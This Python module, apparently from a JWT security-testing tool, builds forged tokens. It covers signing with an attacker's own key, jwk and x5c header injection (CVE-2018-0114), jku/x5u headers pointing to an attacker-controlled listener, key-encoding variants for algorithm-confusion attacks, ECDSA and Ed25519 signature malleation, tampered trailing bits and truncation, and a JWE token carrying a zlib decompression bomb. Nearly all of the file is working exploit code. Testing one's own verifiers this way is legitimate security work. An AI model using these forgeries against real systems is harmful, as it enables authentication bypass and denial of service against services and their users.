"""Tokens signed with a key of the attacker's own, and the ways of asking to be verified by it."""

import base64
import json
import zlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from cryptography.x509.oid import NameOID

from gatepost.attacks.forge import (
    Changes,
    DoesNotApply,
    Forger,
    Material,
    base64url,
    changed,
    compact,
    unbase64url,
)
from gatepost.attacks.signing_keys import (
    ORDERS,
    PrivateKey,
    hmac_of,
    jwk_of,
    sign,
    strangers_key,
)

# The order of Ed25519's group (RFC 8032, section 5.1).
_GROUP_ORDER = 2**252 + 27742317777372353535851937790883648493
_HALF = 32
_PUBLIC_PEM = (Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)

Pointer = Callable[[Material, PrivateKey], Changes]


def stranger_signed(pointer: Pointer, algorithm: str = "") -> Forger:
    """Sign with a key of the attacker's, and let the header say where that key is to be found.

    Args:
        pointer: gives the changes of the header.
        algorithm: by which it signs; that of the real token unless given.
    """

    def forge(material: Material) -> bytes:
        named = algorithm or material.algorithm
        stranger = strangers_key(named)
        changes = (
            {"alg": named, **pointer(material, stranger)}
            if algorithm
            else pointer(material, stranger)
        )
        head = changed(material.header, changes, material.now)
        payload = unbase64url(material.segments[1])
        if isinstance(stranger, bytes):
            return compact(head.encode(), payload, lambda text: hmac_of(stranger, named, text))
        known = named if named[:2] in {"RS", "PS", "ES", "Ed"} else "EdDSA"
        return compact(head.encode(), payload, lambda text: sign(stranger, known, text))

    return forge


def under_the_real_kid(_material: Material, _stranger: PrivateKey) -> Changes:
    """Point to the key of the house, by whose public half it does not verify."""
    return {}


def under_an_unknown_kid(_material: Material, _stranger: PrivateKey) -> Changes:
    """Point to a key that nobody has, as a token from another deployment does."""
    return {"kid": "a-key-of-another-deployment"}


def with_its_own_jwk(_material: Material, stranger: PrivateKey) -> Changes:
    """Bring the key along (CVE-2018-0114)."""
    return {"jwk": {**jwk_of(stranger), "kid": "mine", "use": "sig"}}


def at_a_url(member: str) -> Pointer:
    """Point to the attacker's server, in `jku` or `x5u`."""
    return lambda material, _: {member: f"{material.listener}/{member}", "kid": "mine"}


def with_its_own_certificate(_material: Material, stranger: PrivateKey) -> Changes:
    """Bring a self-signed certificate along."""
    if isinstance(stranger, bytes):
        raise DoesNotApply("a secret has no certificate")
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker.example")])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder(name, name, stranger.public_key())
        .serial_number(1)
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=1))
        .sign(stranger, hashes.SHA256() if _is_hashed(stranger) else None)
    )
    return {"x5c": [base64.b64encode(certificate.public_bytes(Encoding.DER)).decode()]}


def _is_hashed(key: PrivateKey) -> bool:
    return jwk_of(key)["kty"] in {"RSA", "EC"}


def public_pem(material: Material) -> bytes:
    """Return the published key as PEM, the way a confused verifier holds it."""
    return material.public_key.public_bytes(*_PUBLIC_PEM)


def public_pkcs1(material: Material) -> bytes:
    """Return the published RSA key as the older PEM."""
    key = material.public_key
    if not isinstance(key, rsa.RSAPublicKey):
        raise DoesNotApply("the published key is no RSA key")
    return key.public_bytes(Encoding.PEM, PublicFormat.PKCS1)


def public_der(material: Material) -> bytes:
    """Return the published key as DER."""
    return material.public_key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)


def public_number(material: Material) -> bytes:
    """Return the text of the published key's own member, `n` or `x`."""
    jwk = jwk_of(material.public_key)
    return jwk.get("n", jwk.get("x", "")).encode()


def public_octets(material: Material) -> bytes:
    """Return the octets of the published key's own member."""
    return unbase64url(public_number(material).decode())


def public_jwk(material: Material) -> bytes:
    """Return the published key as compact JSON."""
    if not material.jwk:
        raise DoesNotApply("the app publishes no key")
    return json.dumps(dict(material.jwk), separators=(",", ":")).encode()


def malleated(material: Material) -> bytes:
    """Write the other signature for which the same equation holds.

    Of Ed25519 it is S plus the group's order (RFC 8032, section 5.1.7), of ECDSA the order less s.
    """
    signature = unbase64url(material.segments[2])
    half = len(signature) // 2
    if order := ORDERS.get(material.algorithm):
        other = (order - int.from_bytes(signature[half:])).to_bytes(half)
    elif material.algorithm in {"EdDSA", "Ed25519"} and half == _HALF:
        scalar = int.from_bytes(signature[half:], "little") + _GROUP_ORDER
        other = scalar.to_bytes(half, "little")
    else:
        raise DoesNotApply("a signature of this kind has no other form")
    return ".".join([*material.segments[:2], base64url(signature[:half] + other)]).encode()


def trailing_bits(material: Material) -> bytes:
    """Set the unused bits of the last character: most decoders read the same signature."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    unused = len(material.segments[2]) * 6 % 8
    last = alphabet[alphabet.index(material.token[-1]) | (1 << unused) - 1]
    if last == material.token[-1]:
        raise DoesNotApply("this token has no unused bits")
    return (material.token[:-1] + last).encode()


def truncated(material: Material) -> bytes:
    """Leave the last byte of the signature out."""
    signature = unbase64url(material.segments[2])[:-1]
    return ".".join([*material.segments[:2], base64url(signature)]).encode()


def encrypted(**header: object) -> Forger:
    """Write something of five segments that says it is encrypted (RFC 7516)."""

    def forge(material: Material) -> bytes:
        head = changed({}, {"alg": "dir", "enc": "A256GCM", **header}, material.now)
        bomb = zlib.compress(bytes(4_000_000), 9)
        parts = (head.encode(), b"", b"\x00" * 12, bomb, b"\x00" * 16)
        return ".".join(base64url(part) for part in parts).encode()

    return forge
